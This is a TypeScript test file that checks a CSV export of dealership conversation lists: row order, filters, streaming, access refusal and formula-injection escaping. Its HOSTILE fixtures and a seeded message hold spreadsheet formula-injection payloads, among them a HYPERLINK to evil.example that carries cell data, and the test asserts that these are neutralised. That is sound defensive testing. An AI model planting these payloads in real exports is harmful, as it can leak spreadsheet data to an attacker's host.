/** A list as CSV: it has the rows of the list, is streamed, and is harmless in a spreadsheet. */
import Papa from 'papaparse'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { CallInput } from '../../src/contract/core/call'
import { conversations } from '../../src/contract/calls/conversations'
import { conversationsCsv } from '../../src/contract/calls/conversations-csv'
import { appendMessage } from '../../src/service/conversations/messages'
import { eachDatabase } from './support/databases'
import { requestOf, startService, type TestService } from './support/service'
import { ACCOUNT, addConversation, seedWorld, USER } from './support/world'

const range = { start_date: '2026-11-01T00:00:00', end_date: '2026-11-21T23:59:59' }
/** The rows fill more than one chunk of the stream. */
const CROWD = 620
const HOSTILE = [
  '=HYPERLINK("http://evil.example")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\tTab',
  '=HYPERLINK("http://evil.example/"&B2,"open")\nword',
  '=1\r\nword',
  '=1\rword',
  '\u202E\u200B=1+1',
  '＝1+1\u2028word',
]
/** Formulas inside of a text, with the text as the file has it. */
const INNER: Readonly<Record<string, string>> = {
  ' \n"=1+1': `' \n"'=1+1`,
  'Quote " and, comma\n=1': `Quote " and, comma\n'=1`,
  'hi;=1+1': "hi;'=1+1",
}
const NAMES = [...HOSTILE, ...Object.keys(INNER)]

eachDatabase('exports of conversation lists', (database) => {
  let test: TestService
  const own = { account_id: ACCOUNT.ford, product: 'SALES_AI', ...range } as const

  beforeAll(async () => {
    test = await startService({ seed: seedWorld, database })
    const created_at = new Date('2026-11-10T15:00:00Z')
    for (let index = 0; index < CROWD; index += 1)
      await addConversation(test.db, {
        name: NAMES[index] ?? `Lead ${String(index).padStart(4, '0')}`,
        source_name: index % 2 ? 'Website' : 'AutoMarket',
        created_at: new Date(created_at.getTime() + index * 1000),
        phone: index === 0 ? '+13125550123' : null,
      })
    // Text of a shopper, and text of a feed about a lead.
    const { id: conversation_id } = await addConversation(test.db, {
      name: 'Lead 9999',
      created_at,
      source_name: '@Web\nsite',
    })
    await appendMessage(test.context, {
      account_id: ACCOUNT.ford,
      conversation_id,
      initiator: 'HUMAN',
      text: '=HYPERLINK("http://evil.example/"&B2,"open")\nhello',
      channel: 'chat',
    })
    await addConversation(test.db, { account_id: ACCOUNT.toyota, name: 'Sister', created_at })
    await addConversation(test.db, { account_id: ACCOUNT.riverside, name: 'Stranger', created_at })
  }, 300_000)
  afterAll(() => test.close())

  type Input = Partial<CallInput<typeof conversationsCsv>>
  const text = (input: Input = {}, as: string = USER.rep) =>
    test.call(conversationsCsv, { name: 'all', ...own, ...input }, { as })
  const rows = async (input: Input = {}, as?: string) => {
    const { data, errors } = Papa.parse<Record<string, string>>((await text(input, as)).trimEnd(), {
      header: true,
    })
    expect(errors).toEqual([])
    return data
  }

  it('has every row of the list, in its order, under the list’s columns', async () => {
    const input = { sort_column: 'Name, Surname', sort_direction: 'desc' } as const
    const exported = await rows(input)
    const pages = []
    for (let page_id = 1; page_id <= Math.ceil((CROWD + 1) / 20); page_id += 1)
      pages.push(
        ...(await test.call(conversations, { name: 'all', ...own, ...input, page_id }, { as: USER.rep }))
          .items,
      )
    expect(exported.map((row) => row.ConversationId)).toEqual(pages.map((row) => row.ConversationId))
    expect(Object.keys(exported[0] ?? {})).toEqual([
      'Customer',
      'Customer’s Last Message',
      'Activity Date',
      'Last Channel',
      'Salesperson Assigned',
      'Lead Source',
      'Phone',
      'Email',
      'ConversationId',
    ])
    // It is 10:00 at the dealership.
    expect(exported.find((row) => row.Customer === 'Lead 0016 Bell')).toMatchObject({
      'Activity Date': '11/10/2026 10:00 AM',
      'Lead Source': 'AutoMarket',
    })
  })

  it('takes the filters of the list', async () => {
    expect(await rows({ source_name: 'Website' })).toHaveLength(CROWD / 2)
    expect((await rows({ search_pattern: 'lead 0017' })).map((row) => row.Customer)).toEqual([
      'Lead 0017 Bell',
    ])
    expect(await rows({ end_date: '2026-11-05T23:59:59' })).toEqual([])
  })

  it('holds no formula, and marks its encoding', async () => {
    const { path } = requestOf(conversationsCsv, { name: 'all', ...own })
    const bytes = await (await test.request(path, {}, { as: USER.rep })).arrayBuffer()
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(0, 11))).toBe('\uFEFFCustomer')
    const all = await rows()
    const names = all.map((row) => row.Customer)
    expect(names).toEqual(expect.arrayContaining(HOSTILE.map((name) => `'${name} Bell`)))
    expect(names).toEqual(expect.arrayContaining(Object.values(INNER).map((name) => `${name} Bell`)))
    expect(all.find((row) => row.Customer === 'Lead 9999 Bell')).toMatchObject({
      'Customer’s Last Message': `'=HYPERLINK("http://evil.example/"&B2,"open")\nhello`,
      'Lead Source': "'@Web\nsite",
    })
    expect(
      all.flatMap((row) => Object.values(row)).filter((cell) => /^[\s"]*[=+\-@\t\r]/.test(cell)),
    ).toEqual([])
    expect(all.find((row) => row.Phone !== '')?.Phone).toBe('(312) 555-0123')
  })

  it('puts a group’s dealerships together, and names them', async () => {
    const all = await rows({ account_id: ACCOUNT.northside }, USER.admin)
    expect(all).toHaveLength(CROWD + 2)
    expect(all.find((row) => row.Customer === 'Sister Bell')?.Dealership).toMatch(/toyota/i)
    expect(all.map((row) => row.Customer)).not.toContain('Stranger Bell')
  })

  it('refuses before the first byte, and reads no further for whoever goes away', async () => {
    await expect(text({ account_id: ACCOUNT.riverside })).rejects.toMatchObject({ status: 404 })
    await expect(text({ start_date: '2026-11-31T00:00:00' })).rejects.toMatchObject({
      status: 400,
      body: { fields: { start_date: expect.any(String) as string } },
    })
    const { path } = requestOf(conversationsCsv, { name: 'all', ...own })
    const answer = await test.request(path, {}, { as: USER.rep })
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="\w+\.csv"$/)
    const reader = answer.body?.getReader()
    expect((await reader?.read())?.done).toBe(false)
    await reader?.cancel()
    // The export does not lock the database for others.
    await appendMessage(test.context, {
      account_id: ACCOUNT.ford,
      conversation_id: (await rows({ search_pattern: 'lead 0020' }))[0]?.ConversationId ?? '',
      initiator: 'BOT',
      text: 'Hello',
      channel: 'chat',
    })
  })
})
